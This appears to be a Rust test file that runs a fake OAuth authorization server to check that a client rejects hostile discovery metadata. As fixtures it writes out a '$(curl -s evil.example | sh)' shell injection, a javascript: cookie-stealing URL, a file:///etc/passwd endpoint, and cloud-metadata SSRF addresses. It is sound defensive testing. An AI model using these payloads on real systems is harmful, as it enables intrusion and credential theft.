//! Hostile metadata, from a small fake server: what no real authorization server does on
//! purpose (an issuer that lies, endpoints that are not URLs, internal addresses, a redirect to
//! cloud metadata, a 10 MB answer, an answer that drips). Each must make the call fail, with a
//! typed error, and make the client do nothing else.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    reason = "a panic in a test is a failed test"
)]

use std::sync::atomic::Ordering;
use std::time::{Duration, Instant};

use axum::Router;
use axum::body::Body;
use axum::extract::{Path, State};
use axum::http::{StatusCode, header};
use axum::response::{IntoResponse, Response};
use axum::routing::get;
use identity_core::Error;
use identity_dcr::Dcr;
use identity_http::OutboundPolicy as FetchPolicy;
use identity_test_support::silent_listener;
use serde_json::json;

/// Serves `/.well-known/oauth-authorization-server/{scenario}`; the issuer of a scenario is
/// `{base}/{scenario}`.
async fn hostile_server() -> String {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let base = format!("http://{}", listener.local_addr().unwrap());
    let app = Router::new()
        .route(
            "/.well-known/oauth-authorization-server/{scenario}",
            get(metadata),
        )
        .with_state(base.clone());
    tokio::spawn(async move { axum::serve(listener, app).await.unwrap() });
    base
}

async fn metadata(State(base): State<String>, Path(scenario): Path<String>) -> Response {
    let issuer = format!("{base}/{scenario}");
    let with = |field: &str, value: &str| {
        let mut body = json!({"issuer": issuer, "token_endpoint": format!("{issuer}/token")});
        body[field] = json!(value);
        axum::Json(body).into_response()
    };
    match scenario.as_str() {
        "mismatch" => axum::Json(json!({"issuer": "https://login.example.com"})).into_response(),
        "javascript" => with("token_endpoint", "javascript:alert(document.cookie)"),
        "file" => with("registration_endpoint", "file:///etc/passwd"),
        "shell" => with("authorization_endpoint", "$(curl -s evil.example | sh)"),
        "private" => with("registration_endpoint", "https://10.0.0.1/register"),
        "metadata-address" => with("token_endpoint", "http://169.254.169.254/latest/meta-data/"),
        "redirect" => Response::builder()
            .status(StatusCode::FOUND)
            .header(
                header::LOCATION,
                "http://169.254.169.254/latest/meta-data/iam/",
            )
            .body(Body::empty())
            .unwrap(),
        "huge" => {
            let mut body = format!("{{\"issuer\": \"{issuer}\", \"padding\": \"");
            body.push_str(&"x".repeat(10 * 1024 * 1024));
            body.push_str("\"}");
            body.into_response()
        }
        "huge-chunked" => {
            // No Content-Length: the cap must hold while the body streams.
            let chunk = vec![b' '; 64 * 1024];
            let stream = futures::stream::iter(
                (0..160).map(move |_| Ok::<_, std::io::Error>(chunk.clone())),
            );
            Response::new(Body::from_stream(stream))
        }
        "drip" => {
            let stream = futures::stream::unfold(0u32, |n| async move {
                tokio::time::sleep(Duration::from_millis(200)).await;
                (n < 300).then(|| (Ok::<_, std::io::Error>(vec![b' ']), n + 1))
            });
            Response::new(Body::from_stream(stream))
        }
        _ => StatusCode::NOT_FOUND.into_response(),
    }
}

fn dcr() -> Dcr {
    Dcr::new(
        FetchPolicy::default()
            .allow_http_loopback(true)
            .max_body(1024 * 1024)
            .timeout(Duration::from_secs(1)),
    )
    .unwrap()
}

fn code_of(err: &Error) -> Option<&str> {
    match err {
        Error::Protocol { code, .. } => Some(code),
        _ => None,
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_metadata_makes_discovery_fail_and_nothing_else() {
    let base = hostile_server().await;
    let dcr = dcr();
    for (scenario, code, says) in [
        ("mismatch", "invalid_metadata", "login.example.com"),
        ("javascript", "unsafe_url", "token_endpoint"),
        ("file", "unsafe_url", "registration_endpoint"),
        ("shell", "unsafe_url", "authorization_endpoint"),
        ("private", "unsafe_url", "non-public"),
        ("metadata-address", "unsafe_url", "not loopback"),
        ("redirect", "redirect_refused", "302"),
        ("huge", "response_too_large", "1048576"),
        ("huge-chunked", "response_too_large", "1048576"),
    ] {
        let err = dcr
            .discover(&format!("{base}/{scenario}"))
            .await
            .unwrap_err();
        assert_eq!(code_of(&err), Some(code), "{scenario}: {err:?}");
        assert!(err.to_string().contains(says), "{scenario}: {err}");
        assert!(!err.is_retryable(), "{scenario}");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_answer_that_drips_is_cut_off_at_the_timeout() {
    let base = hostile_server().await;
    let started = Instant::now();
    let err = dcr().discover(&format!("{base}/drip")).await.unwrap_err();
    assert!(matches!(err, Error::Unavailable { .. }), "{err:?}");
    assert!(err.to_string().contains("timed out"), "{err}");
    // The drip would last a minute; the 1 s timeout ends it.
    assert!(
        started.elapsed() < Duration::from_secs(10),
        "{:?}",
        started.elapsed()
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_name_that_resolves_to_a_refused_address_is_never_connected_to() {
    let (address, connections) = silent_listener().await;
    let port = address.rsplit(':').next().unwrap();
    // https to `localhost` passes the URL check; its address does not pass the resolver's.
    let err = Dcr::new(FetchPolicy::default())
        .unwrap()
        .discover(&format!("https://localhost:{port}/tenant"))
        .await
        .unwrap_err();
    assert!(matches!(err, Error::Unavailable { .. }), "{err:?}");
    tokio::time::sleep(Duration::from_millis(100)).await;
    assert_eq!(connections.load(Ordering::SeqCst), 0);
    // A literal private address is refused before any resolution.
    let err = Dcr::new(FetchPolicy::default())
        .unwrap()
        .discover("https://169.254.169.254/")
        .await
        .unwrap_err();
    assert_eq!(code_of(&err), Some("unsafe_url"), "{err:?}");
}
